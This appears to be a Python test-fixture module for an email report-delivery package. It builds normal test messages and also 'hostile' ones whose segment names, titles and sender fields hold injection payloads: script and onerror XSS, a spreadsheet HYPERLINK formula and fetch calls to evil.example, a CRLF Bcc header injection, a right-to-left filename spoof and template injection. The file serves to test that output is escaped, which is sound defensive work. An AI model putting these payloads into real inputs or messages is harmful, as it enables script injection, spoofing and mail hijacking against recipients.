"""Messages for tests: a real report's, with everything around it that a test may change."""

from dataclasses import replace
from datetime import UTC, date, datetime
from email.message import EmailMessage
from functools import cache

from clv_xl.customers.orders import order_log
from clv_xl.delivery.attachment import Attachment
from clv_xl.delivery.message import Issue, Sender, compose
from clv_xl.reports.assumptions import Assumptions
from clv_xl.reports.build import build_report
from clv_xl.reports.report import Report
from tests.reports.inputs import report, texts

WORKBOOK = b"PK\x03\x04 stands for a workbook " * 40
SENDER = Sender("reports@example.org", "Reports team", "CRM desk, crm@example.org")
ISSUE = Issue(
    period="2024",
    as_of=date(2024, 12, 31),
    message_id="<7d1f@clv-xl.example.org>",
    date=datetime(2025, 1, 2, 8, 30, tzinfo=UTC),
)


def attached(case: str = "full", *told: str, name: str = "CLV 2024.xlsx") -> Attachment:
    """Return a workbook with the report of a situation."""
    return Attachment(name, WORKBOOK, report(case), told, "0" * 64)


def letter(case: str = "full", to: str = "ada@example.org", **changed: object) -> EmailMessage:
    """Return a message; `changed` goes into its issue."""
    issue = replace(ISSUE, **changed)  # type: ignore[arg-type] # by name
    return compose(attached(case), to, "Ada Lovelace", SENDER, texts(), issue)


@cache
def short(to: str = "ada@example.org") -> EmailMessage:
    """Return a message that tests of transports send."""
    return letter("one_order", to)


HOSTILE = (
    "<script>fetch('https://evil.example/x')</script>",
    '"><img src=https://evil.example/y onerror=alert(1)>',
    '=HYPERLINK("https://evil.example/z","x")',
    "＝1+1",
    "a\r\nBcc: eve@evil.example",
    "\u202egnp.exe",
    "{{ 7 * 7 }}{% raw %}",
    "$\\frac{a}{$",
    "cid:chart javascript:alert(1)",
)
"""Names of segments that want to be more than names."""


@cache
def hostile_report() -> Report:
    """Return a report whose segments, title, source and currency are hostile."""
    customers = [f"c{number}" for number in range(len(HOSTILE) * 8)]
    log = order_log(
        customers * 3,
        [f"2024-0{1 + n % 6}-{1 + n % 27:02d}" for n in range(len(customers) * 3)],
        [10.0 + n % 50 for n in range(len(customers) * 3)],
        segments={HOSTILE[0]: [HOSTILE[n % len(HOSTILE)] for n in range(len(customers))] * 3},
    )
    given = Assumptions(
        margin_rate=0.4, segment_columns=(HOSTILE[0],), title=HOSTILE[1], source=HOSTILE[4]
    )
    return build_report(log, given, texts())


def hostile() -> EmailMessage:
    """Return a message everything of which wants to be more than text."""
    segments = tuple(name for name in HOSTILE if name.isprintable())
    attachment = Attachment("=1+1 <script>.xlsx", WORKBOOK, hostile_report(), HOSTILE, "0" * 64)
    sender = Sender("reports@example.org", HOSTILE[1], HOSTILE[0])
    issue = replace(ISSUE, segments=segments, detail="full")
    return compose(attachment, "ada@example.org", HOSTILE[0], sender, texts(), issue)


def part(message: EmailMessage, kind: str) -> EmailMessage:
    """Return the only part of a kind."""
    (found,) = (one for one in message.walk() if one.get_content_type() == kind)
    assert isinstance(found, EmailMessage)
    return found


def said(message: EmailMessage, kind: str = "text/plain") -> str:
    """Return a text body."""
    return str(part(message, kind).get_content())
